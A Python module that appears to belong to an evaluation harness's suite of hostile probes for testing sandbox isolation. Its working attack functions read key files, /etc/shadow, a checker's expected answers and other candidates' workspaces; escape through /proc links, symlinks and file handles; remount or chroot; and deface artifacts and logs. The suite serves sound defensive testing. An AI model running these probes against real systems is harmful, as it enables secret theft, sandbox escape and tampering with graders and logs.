"""Decides which attacks go for files: secrets, artifacts, the workspace and mounts."""

from __future__ import annotations

import ctypes
import os
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from pathlib import Path

from evaluators.hostile.attack import (
    Attack,
    Blocked,
    NotApplicable,
    Proof,
    Scene,
    canaries,
    first_success,
    read,
    scratch_folder,
)  # fmt: skip
from evaluators.hostile.syscalls import call, permitted

LINK = "link"
"""A symlink in the workspace that leads to a secret file."""
_MS_REMOUNT, _MS_BIND, _MNT_DETACH = 32, 4096, 2


def read_home(scene: Scene) -> str:
    """Reads a key file in the user's HOME."""
    return canaries(read(scene.secret_files["home"]))


def read_checker_data(scene: Scene) -> str:
    """Reads the expected answers of the accuracy checker."""
    return canaries(read(scene.secret_files["checker"]))


def read_other_candidate(scene: Scene) -> str:
    """Reads another candidate's workspace."""
    return canaries(read(scene.secret_files["candidate"]))


def read_ray_folder(scene: Scene) -> str:
    """Reads a session folder like Ray's below /tmp."""
    return canaries(read(scene.secret_files["ray"]))


def read_shadow(scene: Scene) -> str:
    """Reads /etc/shadow."""
    return f"{len(read('/etc/shadow'))} bytes"


def stat_secret(scene: Scene) -> str:
    """Learns size and time of a secret file, or that it exists at all."""
    found = [place for place, path in scene.secret_files.items() if _exists(path)]
    if not found:
        raise Blocked("no secret file is in sight")
    return f"saw {', '.join(found)}"


def follow_symlink(scene: Scene) -> str:
    """Reads through symlinks to a secret: one in the workspace, one made just now."""
    target = scene.secret_files["checker"]
    return first_success([lambda: canaries(read(LINK)), lambda: canaries(read(_new_link(target)))])


def escape_through_proc(scene: Scene) -> str:
    """Reads a secret through /proc/PID/root, cwd and fd of every process in sight."""
    found = []
    for place in _doors():
        for path in scene.secret_files.values():
            with suppress(OSError):
                found.append(read(f"{place}{path}"))
    return canaries(" ".join(found))


def open_by_handle(scene: Scene) -> str:
    """Opens a secret by its file handle, past every folder (open_by_handle_at)."""
    if not scene.handle:
        raise NotApplicable("the file system of the temporary folder has no handles")
    handle = ctypes.create_string_buffer(bytes.fromhex(scene.handle))
    places = ("/", ".", str(Path(scene.artifact).parent), scratch_folder())
    return first_success([partial(_open_handle, place, handle) for place in places])


def inherited_descriptors(scene: Scene) -> str:
    """Looks for files and sockets that the harness left open."""
    if not scene.inherited:
        raise Blocked("only stdin, stdout and stderr are open")
    return ", ".join(scene.inherited)


def write_artifact(scene: Scene) -> str:
    """Alters an artifact: by appending, after chmod, by putting another in its place."""
    return _deface(Path(scene.artifact), "write-artifact")


def write_workspace(scene: Scene) -> str:
    """Alters its own workspace while it serves."""
    return _deface(Path("server.py"), "write-workspace")


def remount_writable(scene: Scene) -> str:
    """Remounts artifacts and workspace for writing, and writes."""
    failure: OSError = FileNotFoundError("nothing to remount")
    for folder in (Path(scene.artifact).parent, Path.cwd()):
        try:
            call("mount", None, bytes(folder), None, _MS_REMOUNT | _MS_BIND, None)
            (folder / "remount-writable").write_text("remount-writable")
            return f"{folder} is writable now"
        except OSError as error:
            failure = error
    raise failure


def bind_mount(scene: Scene) -> str:
    """Bind-mounts a folder over another."""
    place = Path(scratch_folder()) / "bind"
    place.mkdir(exist_ok=True)
    call("mount", bytes(place), bytes(place), None, _MS_BIND, None)
    call("umount2", bytes(place), _MNT_DETACH)
    return "mounted"


def new_mount_api(scene: Scene) -> str:
    """Makes a file system by the new mount calls (fsopen)."""
    return permitted("fsopen", b"tmpfs", 0)


def change_root(scene: Scene) -> str:
    """Changes its root folder (chroot)."""
    os.chroot(scratch_folder())
    return "chroot worked"


def pivot_root(scene: Scene) -> str:
    """Exchanges the root mount (pivot_root)."""
    return permitted("pivot_root", b"/nowhere", b"/nowhere")


def write_log(scene: Scene) -> str:
    """Could rewrite its own log: through its output, or by the file's name."""
    return first_success([lambda: f"{os.lseek(1, 0, os.SEEK_CUR)}: output can be rewound", lambda: _open(scene.log)])


def _exists(path: str) -> bool:
    try:
        os.stat(path)
    except OSError:
        return False
    return True


def _open(path: str) -> str:
    os.close(os.open(path, os.O_WRONLY))
    return f"opened {path}"


def _new_link(target: str) -> Path:
    link = Path(scratch_folder()) / "link"
    link.unlink(missing_ok=True)
    link.symlink_to(target)
    return link


def _doors() -> Iterator[str]:
    """Links of /proc that may lead out of our root."""
    for pid in ("self", *filter(str.isdigit, os.listdir("/proc"))):
        yield from (f"/proc/{pid}/root", f"/proc/{pid}/cwd/../../../../../..")
        with suppress(OSError):
            yield from (f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd"))


def _open_handle(place: str, handle: ctypes.Array[ctypes.c_char]) -> str:
    mount = os.open(place, os.O_RDONLY)
    secret = call("open_by_handle_at", mount, handle, os.O_RDONLY)
    return canaries(os.read(secret, 4096).decode(errors="replace"))


def _deface(path: Path, marker: str) -> str:
    """Leave `marker` in the file's folder or in the file; the prober looks for it there."""

    def append() -> str:
        with path.open("ab") as file:
            file.write(marker.encode())
        return "appended"

    def chmod() -> str:
        path.chmod(0o666)
        return append()

    def replace() -> str:
        other = path.with_name(marker)
        other.write_text(marker)
        other.replace(path)
        return "replaced"

    ways: list[Callable[[], str]] = [append, chmod, replace]
    return first_success(ways)


ATTACKS = (
    *(Attack(run=run, proof=Proof.LOOT) for run in (read_home, read_checker_data, read_other_candidate)),
    *(Attack(run=run, proof=Proof.LOOT) for run in (read_ray_folder, follow_symlink, escape_through_proc)),
    Attack(run=open_by_handle, proof=Proof.LOOT, needs=("open_by_handle_at",)),
    *(Attack(run=run, proof=Proof.RESULT) for run in (read_shadow, stat_secret, inherited_descriptors)),
    *(Attack(run=run, proof=Proof.EFFECT) for run in (write_artifact, write_workspace, remount_writable)),
    *(Attack(run=run, proof=Proof.RESULT) for run in (write_log, bind_mount, change_root)),
    Attack(run=new_mount_api, proof=Proof.RESULT, needs=("fsopen",)),
    Attack(run=pivot_root, proof=Proof.RESULT, needs=("pivot_root",)),
)
